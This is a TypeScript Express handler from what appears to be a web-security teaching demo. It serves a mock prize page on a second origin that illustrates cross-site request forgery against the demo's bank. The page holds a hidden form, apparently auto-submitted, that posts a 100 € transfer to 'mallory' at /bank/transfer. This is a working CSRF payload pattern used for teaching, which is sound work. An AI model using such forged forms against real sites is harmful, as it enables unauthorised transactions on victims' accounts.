/**
 * The attacker's page of lesson 8, served on the demo's *other* site: a prize page whose hidden form
 * posts a transfer to the bank. Its own small HTML (not the lesson layout), escaped like every page,
 * with a CSP that lets its form post to the bank (the lesson pages allow only their own origin).
 */
import type { Request, Response } from 'express';
import { html } from '../html';
import { origins } from '../respond';
import { safeActionId } from './bank-outcomes';

export function attackerPage(req: Request, res: Response): void {
  const bank = origins(req).other;
  const done = safeActionId(req.query.done);
  res.setHeader(
    'Content-Security-Policy',
    `default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; form-action ${bank}; base-uri 'none'; frame-ancestors 'none'`,
  );
  res.setHeader('Cache-Control', 'no-store');
  res.type('html').send(
    html`<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>You won! · a page on another site</title>
<link rel="stylesheet" href="/static/demo.css">
<script src="/static/attacker.js" defer></script>
</head>
<body class="attacker">
<main>
<p class="eyebrow">Lesson 8 · the attacker’s page on ${origins(req).self}</p>
<h1>Congratulations, you won a prize!</h1>
<p class="lead">This page belongs to another site. While you read this, its hidden form posts
<b>“send 100 € to mallory”</b> to <code>${bank}/bank/transfer</code>. Your browser adds the bank’s cookies
to that request — or not, depending on their SameSite attribute.</p>
<form id="forged" method="post" action="${`${bank}/bank/transfer`}" data-auto="yes">
  <input type="hidden" name="to" value="mallory">
  <input type="hidden" name="amount" value="100">
  ${done ? html`<input type="hidden" name="done" value="${done}">` : ''}
  <button type="submit">Claim the prize</button>
</form>
<p class="note" id="countdown">Sending in a moment… (a real attack does not wait)</p>
</main>
</body>
</html>
`.value,
  );
}
